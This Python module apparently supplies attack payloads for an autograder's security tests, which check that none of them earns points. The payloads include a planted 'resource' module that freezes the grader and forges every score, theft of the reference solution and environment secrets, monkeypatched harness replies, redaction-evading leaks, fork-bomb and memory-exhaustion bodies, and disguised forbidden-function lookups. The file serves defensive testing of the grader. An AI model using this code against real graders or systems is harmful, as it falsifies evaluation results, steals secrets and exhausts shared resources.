"""Attack code for tests/attacks/, as source text that goes into a submission.

Everything here runs as *student* code inside the grader's worker (or, for
``PLANTED_RESOURCE``, wherever the worker managed to smuggle it). Each piece does what a
determined student could do with what the worker can see; the tests assert that none of
it earns a point or leaves anything behind.
"""

from __future__ import annotations

# ----------------------------------------------------------------------------- wrong code

# A wrong attention body (inserted after the first line of the solution region): zeros
# of the right shapes, so only the attack could make its tests pass.
WRONG_ATTENTION = "    return torch.zeros(*q.shape[:-1], v.size(-1)), torch.zeros(*q.shape[:-1], k.size(-2))\n"
ATTENTION_BEGIN = "    d_k = q.size(-1)\n"

# ----------------------------------------------------------------------------- 1. grading process

# A module planted in the grading process's working folder under the name of a module
# that process imports late. In the grader before the hardening that name is `resource`:
# sandbox._limits imports it (preexec_fn) in the fork of the grading process that becomes
# each new worker, before the sandbox is entered, with the grading process's memory,
# privileges and file descriptors. From there a detached process waits for the graders'
# report (--grade-report in the grading process's argv), freezes the grading process,
# rewrites every test as passed and lets it go on. If it is ever imported in the grading
# process itself, it also makes autograder.checks accept everything. Then it hands over
# the real `resource` module, so that nothing else notices.
PLANTED_RESOURCE = r'''
import importlib.machinery
import importlib.util
import json
import os
import signal
import sys
import time

_here = os.path.dirname(os.path.abspath(__file__))


def _forge(report, victim):
    deadline = time.monotonic() + 600
    while time.monotonic() < deadline:
        try:
            os.kill(victim, 0)
        except OSError:
            return
        if os.path.exists(report):
            os.kill(victim, signal.SIGSTOP)
            try:
                with open(report, encoding="utf-8") as f:
                    data = json.load(f)
                for test in data["tests"]:
                    test.update(score=test["max_score"], output="", internal_error=False)
                with open(report + ".forged", "w", encoding="utf-8") as f:
                    json.dump(data, f)
                os.replace(report + ".forged", report)
                return
            except (OSError, ValueError, KeyError, TypeError):
                pass
            finally:
                os.kill(victim, signal.SIGCONT)
        time.sleep(0.002)


def _start():
    argv = list(sys.argv)
    if "--grade-report" not in argv:
        return
    report = argv[argv.index("--grade-report") + 1]
    try:
        os.close(os.open(os.path.join(_here, ".forger"), os.O_CREAT | os.O_EXCL | os.O_WRONLY))
    except OSError:
        return  # one forger is enough
    victim = os.getppid()  # the grading process, seen from the fork that becomes a worker
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()  # out of the worker's process group: the grader's killpg misses it
            if os.fork() == 0:
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
                os.closerange(3, 65536)
                _forge(report, victim)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


_checks = sys.modules.get("autograder.grading.checks")
if _checks is not None:  # harmless in a fork; decisive if imported by the grading process itself
    for _name in ("close", "equal", "expect", "parameter_count", "frequencies"):
        setattr(_checks, _name, lambda *a, **k: None)
try:
    _start()
except Exception:
    pass

_spec = importlib.machinery.PathFinder.find_spec(
    "resource", [p for p in sys.path if os.path.abspath(p or ".") != _here])
_real = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(_real)
sys.modules["resource"] = _real
globals().update({k: v for k, v in vars(_real).items() if not k.startswith("__")})
'''

# Student prelude (top of attention.py): plant the module in the grading process's working
# folder (a `course-graders-*` sibling of the scratch folder under the shared TMPDIR), then
# end this worker so that the grading process forks a fresh one for the next request.
PLANT_PRELUDE = (
    "import glob as _glob, os as _os\n"
    f"_PLANTED = {PLANTED_RESOURCE!r}\n"
    "def _plant():\n"
    "    planted = False\n"
    "    for _folder in _glob.glob(_os.path.join(_os.path.dirname(_os.getcwd()), 'course-graders-*')):\n"
    "        _path = _os.path.join(_folder, 'resource.py')\n"
    "        if _os.path.exists(_path):\n"
    "            continue\n"
    "        try:\n"
    "            with open(_path, 'w') as _f:\n"
    "                _f.write(_PLANTED)\n"
    "            planted = True\n"
    "        except OSError:\n"
    "            pass\n"
    "    return planted\n"
    "if _plant():\n"
    "    _os._exit(0)\n"
)

# ----------------------------------------------------------------------------- 2. reading the reference

# Appended to the a1 stub: look for another grading's scratch copy of a1_attention (an a3
# grading next door holds the reference one) wherever this worker can look, and run it.
STEAL_FROM_OTHER_SCRATCH = '''

def _steal():
    import glob
    import os
    me = os.path.realpath(__file__)
    roots = {os.path.dirname(os.getcwd()), os.environ.get("TMPDIR", "/tmp"),
             os.path.dirname(os.environ.get("TMPDIR", "/tmp").rstrip("/")), "/tmp", "/var/tmp", "/dev/shm"}
    for root in sorted(roots):
        for path in sorted(glob.glob(os.path.join(root, "course-grade-*", "a1_attention", "attention.py"))):
            if os.path.realpath(path) == me:
                continue
            try:
                with open(path, encoding="utf-8") as f:
                    source = f.read()
            except OSError:
                continue
            if "not implemented yet" not in source:
                exec(compile(source, path, "exec"), globals())
                return path
    return None


_steal()
'''

# a1 attention.py that reports what ENVIRON_FILE (a symbolic link to /proc/self/environ in
# the submission) held when the grader copied it: the grading process's environment.
ENVIRON_FILE = "env_dump.py"
ENVIRON_ATTENTION = '''
import os

import torch


def _environment():
    path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "env_dump.py")
    try:
        with open(path, "rb") as f:
            data = f.read().decode("utf-8", "replace")
    except OSError as exc:
        return f"nothing to read ({type(exc).__name__})"
    at = data.find("COURSE_SECRET")
    return data[at:at + 120] if at >= 0 else data.replace("\\0", " ")[:400]


def scaled_dot_product_attention(q, k, v, mask=None):
    raise RuntimeError(_environment())


def masked_self_attention(Q, K, V):
    raise RuntimeError(_environment())
'''

# ----------------------------------------------------------------------------- 3. forged replies

# Prelude for attention.py: the worker's loop calls harness.handle(...) through the module,
# so replacing the attribute forges every reply to a `grad` request: no gradients at all.
FORGE_EMPTY_GRADS = '''
import sys as _sys
_harness = _sys.modules.get("harness")
if _harness is not None and not getattr(_harness, "_forged", False):
    _real_handle = _harness.handle

    def _handle(request, *args, **kwargs):
        if isinstance(request, dict) and request.get("op") == "grad":
            return {"ok": {"result": None, "grads": []}}
        return _real_handle(request, *args, **kwargs)

    _harness.handle = _handle
    _harness._forged = True
'''

# Prelude for attention.py: every reply to a request for an attention.* target is replaced
# by hand-written bytes: a tensor with an absurd shape, or a frame with an absurd length.
FORGE_RAW_REPLY = '''
import json as _json
import os as _os
import struct as _struct
import sys as _sys

_FORGED = {forged!r}
_harness, _wire = _sys.modules.get("harness"), _sys.modules.get("wire")
if _harness is not None and _wire is not None and not getattr(_harness, "_forged", False):
    _real_handle, _real_encode, _real_write = _harness.handle, _wire.encode, _wire.write_frame

    def _handle(request, *args, **kwargs):
        if isinstance(request, dict) and str(request.get("target", "")).startswith("attention."):
            return {{"ok": "__forged__"}}
        return _real_handle(request, *args, **kwargs)

    def _encode(value):
        if isinstance(value, dict) and value.get("ok") == "__forged__":
            if _FORGED["kind"] == "frame":
                return b"__forged-frame__"
            tensor = {{"$tensor": [_FORGED["dtype"], _FORGED["shape"], _FORGED["data"]]}}
            return _json.dumps({{"$dict": {{"id": value.get("id"), "ok": tensor}}}}).encode()
        return _real_encode(value)

    def _write_frame(fd, payload):
        if payload == b"__forged-frame__":
            _os.write(fd, _struct.pack(">Q", _FORGED["length"]) + b"{{}}")
            return
        return _real_write(fd, payload)

    _harness.handle, _wire.encode, _wire.write_frame = _handle, _encode, _write_frame
    _harness._forged = True
'''

# ----------------------------------------------------------------------------- 4. redaction bypass

# a3 helper module: every failure carries the next piece of the reference a1 attention
# (which sits in this worker for a3's `from attention import ...`), encoded so that a
# check for verbatim reference lines misses it.
LEAK_MODULE = '''
import base64
import os
import sys
import types

MODE = {mode!r}
_state = {{"n": 0}}


def _reference_source():
    paths = []
    try:
        import attention  # the reference a1, put on this worker's path for a3
        paths.append(getattr(attention, "__file__", None) or "")
    except Exception:
        attention = None
    here = os.path.dirname(os.path.abspath(__file__))
    paths.append(os.path.join(here, "..", "a1_attention", "attention.py"))
    for path in paths:
        try:
            with open(path, encoding="utf-8") as f:
                return f.read()
        except (OSError, ValueError):
            pass
    try:
        import inspect
        return inspect.getsource(attention)
    except Exception:
        return ""


def _lines(source):
    inside, found, every = False, [], []
    for line in source.splitlines():
        code = line.strip()
        if code.startswith("### BEGIN SOLUTION"):
            inside = True
        elif code.startswith("### END SOLUTION"):
            inside = False
        elif len(code) >= 8 and not code.startswith("#"):
            every.append(code)
            if inside:
                found.append(code)
    return found or every or ["(no reference code found)"]


def _b64(text):
    return base64.b64encode(text.encode("utf-8")).decode("ascii")


def fail():
    n = _state["n"]
    _state["n"] += 1
    lines = _lines(_reference_source())
    line = lines[n % len(lines)]
    if MODE == "base64":
        raise RuntimeError(_b64(line))
    if MODE == "reversed":
        raise RuntimeError(line[::-1])
    if MODE == "chunks":
        text = "\\n".join(lines)
        raise RuntimeError(f"part {{n:03d}} {{text[6 * n:6 * n + 6]!r}}")
    if MODE == "one-char-per-line":
        raise RuntimeError("\\n".join(line))
    if MODE == "exception-type":
        raise type(_b64(line[:50]), (Exception,), {{}})("see the type")
    if MODE == "where":
        def _raiser():
            raise RuntimeError("see where")
        name = _b64(line[:50])
        code = _raiser.__code__.replace(co_name=name, co_qualname=name)
        types.FunctionType(code, globals())()
    raise RuntimeError("unknown mode")
'''

LEAK_HELPER = "leak_payload.py"  # not the name of any installed or standard module
LEAK_A3_MODULES = {
    "positional.py": "from torch import nn\nimport leak_payload\n\n\nclass PositionalEncoding(nn.Module):\n"
                     "    def __init__(self, *args, **kwargs):\n        leak_payload.fail()\n",
    "multihead.py": "from torch import nn\nfrom attention import scaled_dot_product_attention\n"
                    "import leak_payload\n\n\n"
                    "class MultiHeadAttention(nn.Module):\n    def __init__(self, *args, **kwargs):\n"
                    "        leak_payload.fail()\n",
    "feedforward.py": "from torch import nn\nimport leak_payload\n\n\nclass FeedForward(nn.Module):\n"
                      "    def __init__(self, *args, **kwargs):\n        leak_payload.fail()\n",
}
# The honest control: the same classes failing with a plain message.
HONEST_A3_MODULES = {
    name: text.replace("import leak_payload\n", "").replace("leak_payload.fail()", "raise RuntimeError('not done yet')")
    for name, text in LEAK_A3_MODULES.items()
}

# ----------------------------------------------------------------------------- 5. resources

# Bodies for masks.target_mask (inserted at the top of its body; the reference result
# follows). Nothing else in a1 calls target_mask, so only its own grader is concerned.
TARGET_MASK_BEGIN = "    if tokens.dim() != 2:\n        raise ValueError(f\"tokens must have shape (B, T)"

MEMORY_HOG = '''    _hog = []
    for _ in range({chunks}):  # 64 MiB each, written so that every page is really used
        _hog.append(torch.ones(16 << 20))
    del _hog
'''

FORK_BOMB = '''    import os as _os, time as _time
    for _ in range({children}):
        if _os.fork() == 0:
            try:
                _os.chdir("/")
                _os.execv("/bin/sleep", ["{tag}", "300"])
            except BaseException:
                _time.sleep(300)
            finally:
                _os._exit(0)
'''

TMP_FILES = '''    for _folder in ("/tmp", "/dev/shm"):
        with open(_folder + "/{tag}.bin", "wb") as _f:
            for _ in range({megabytes}):
                _f.write(b"x" * (1 << 20))
'''

# A module that takes long to import; both a1 modules import it and every call then ends
# the worker, so every test pays a fresh start-up and the slow import again.
SLOW_HELPER = "slow_start_helper.py"
SLOW_IMPORT = "import time\ntime.sleep({seconds})\n"
CRASH_EVERY_CALL = '''
import os as _os


def _crash(*args, **kwargs):
    _os._exit(3)


causal_mask = padding_mask = target_mask = scaled_dot_product_attention = masked_self_attention = _crash
'''

# A module named like one the worker needs (json: wire.py; traceback: harness.py;
# inspect: torch; numpy: torch) that never finishes importing.
SHADOW_SLEEPER = "import time\ntime.sleep(3600)\n"

# ----------------------------------------------------------------------------- 6. forbidden shortcuts

SDPA_LOOKUPS = {
    "getattr(F, name)": 'getattr(torch.nn.functional, "scaled_dot_product" + "_attention")',
    "getattr(torch._C._nn, name)": 'getattr(torch._C._nn, "scaled_dot_product" + "_attention")',
    "getattr(torch.ops.aten, name)": 'getattr(torch.ops.aten, "scaled_dot_product" + "_attention")',
}
# Body for scaled_dot_product_attention (after its first solution line): torch's fused
# attention gives the output, and with an identity as the values, the weights.
SDPA_SHORTCUT = '''    _sdpa = {lookup}
    _eye = torch.eye(k.size(-2), dtype=q.dtype).expand(*k.shape[:-1], k.size(-2))
    output = _sdpa(q, k, v, attn_mask=mask).nan_to_num(0.0)
    weights = _sdpa(q, k, _eye, attn_mask=mask).nan_to_num(0.0)
    return output, weights
'''

LAYERNORM_LOOKUPS = {
    "getattr(F, name)": 'getattr(torch.nn.functional, "layer" + "_norm")',
    "getattr(torch, name)": 'getattr(torch, "layer" + "_norm")',
    "getattr(torch.ops.aten, name)": 'lambda *a: getattr(torch.ops.aten, "native_layer" + "_norm")(*a)[0]',
}
LAYERNORM_BEGIN = "        dims = tuple(range(-len(self.normalized_shape), 0))\n"
LAYERNORM_SHORTCUT = ("        return ({lookup})(x, list(self.normalized_shape), self.weight, self.bias, self.eps)\n")
LAYERNORM_NOT_DONE = "        raise NotImplementedError(\"not implemented yet: LayerNorm.forward\")\n"
